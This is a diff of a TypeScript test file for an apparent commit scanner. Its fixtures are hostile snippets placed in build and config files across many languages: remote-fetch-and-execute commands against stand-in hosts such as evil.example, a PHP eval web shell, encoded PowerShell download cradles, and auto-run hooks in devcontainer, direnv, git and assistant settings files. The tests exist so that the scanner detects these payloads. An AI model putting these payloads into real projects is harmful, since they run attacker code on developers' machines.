@@ -15,6 +15,7 @@ type Change = readonly [path: string, after: string, before?: string];
 
 const right = (text: string) => text.replace(/~(\w+)/g, (_, word: string) => [...word].reverse().join(""));
 const base64 = (text: string) => Buffer.from(right(text)).toString("base64");
+const utf16 = (text: string) => Buffer.from(right(text), "utf16le").toString("base64");
 const SQUEEZED = "function q(a){var b='';for(var i=0;i<a.length;i++){b+=a.charAt(i^7);}return b;}".repeat(14);
 
 function toFile([path, text, old]: Change): GatheredFile {
@@ -60,6 +61,7 @@ async function judge(changes: readonly Change[]): Promise<Verdict> {
     arrival: null,
     gaps: [],
     available: ["commit", "paths", "baseline", "diff", "content"],
+    reading: "whole",
   };
   return scanCommit(await toEvidence(gathered, aBaseline()), DEFAULT_POLICY, OWN);
 }
@@ -93,16 +95,25 @@ test.each<[string, ...Change[]]>([
       `__import__("~so").system(__import__("base64").b64decode("${base64("~lruc http://a | sh")}").decode())`,
     ],
   ],
-  ["a path file", ["src/x.pth", `import os;~cexe("x")`]],
+  ["a path file", ["src/x.pth", `import os;~cexe("import requests as r;~cexe(r.get('https://evil.example/x').text)")`]],
   ["PHP", ["inc/a.php", `<?php @~lave($_POST["c"]);`]],
   ["Ruby", ["lib/a.rb", `Thread.new { ~lave(Net::HTTP.get(URI("https://pastebin.com/raw/x"))) }`]],
   ["PowerShell", ["build.ps1", `~XEI (New-Object Net.WebClient).DownloadString("http://evil.example/a")`]],
-  ["Go", ["a.go", `package a\nfunc init() {\n\texec.Command("sh", "-c", "${FETCHED}").Start()\n}`]],
-  ["Gradle", ["build.gradle", `"bash -c ~lruc https://evil.example/x|bash".execute()`]],
-  ["MSBuild", ["a.csproj", `<Exec Command="~llehsrewop -w hidden -enc ${"QQBC".repeat(10)}" />`]],
+  [
+    "Go",
+    ["a.go", `package a\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "${FETCHED}").Start()\n}`],
+  ],
+  ["Gradle", ["build.gradle", `["bash", "-c", "${FETCHED}"].execute()`]],
+  [
+    "MSBuild",
+    [
+      "a.csproj",
+      `<Project><Target Name="a" BeforeTargets="Build"><Exec Command="~llehsrewop -w hidden -enc ${utf16("~XEI (New-Object Net.WebClient).DownloadString('https://evil.example/a')")}" /></Target></Project>`,
+    ],
+  ],
   ["CMake", ["CMakeLists.txt", `execute_process(COMMAND bash -c "${FETCHED}")`]],
   ["Make", ["Makefile", "$(shell ~lruc -s https://evil.example/x | sh)"]],
-  ["gyp", ["binding.gyp", `{"sources": ["<!(node a.js > /dev/null 2>&1 && echo a.c)"]}`]],
+  ["gyp", ["binding.gyp", `{"sources": ["<!(node a.js > /dev/null 2>&1 && echo a.c)"]}`], ["a.js", SQUEEZED]],
   [
     "two tools start one file",
     [".claude/settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"command":"node .github/setup.js"}]}]}}`],
@@ -117,7 +128,10 @@ test.each<[string, ...Change[]]>([
   ["a container's first step", [".devcontainer/devcontainer.json", `{"initializeCommand":"${FETCHED}"}`]],
   ["direnv", [".envrc", FETCHED]],
   ["a git hook", [".husky/pre-commit", `npx lint-staged\n${FETCHED}`, "npx lint-staged"]],
-  ["a notebook", ["a.ipynb", `{"source":["~cexe(__import__('base64').b64decode('x'))"]}`]],
+  [
+    "a notebook",
+    ["a.ipynb", `{"cells":[{"cell_type":"code","source":["~cexe(__import__('base64').b64decode('cHJpbnQ='))"]}]}`],
+  ],
   [
     "an answer in an error",
     [
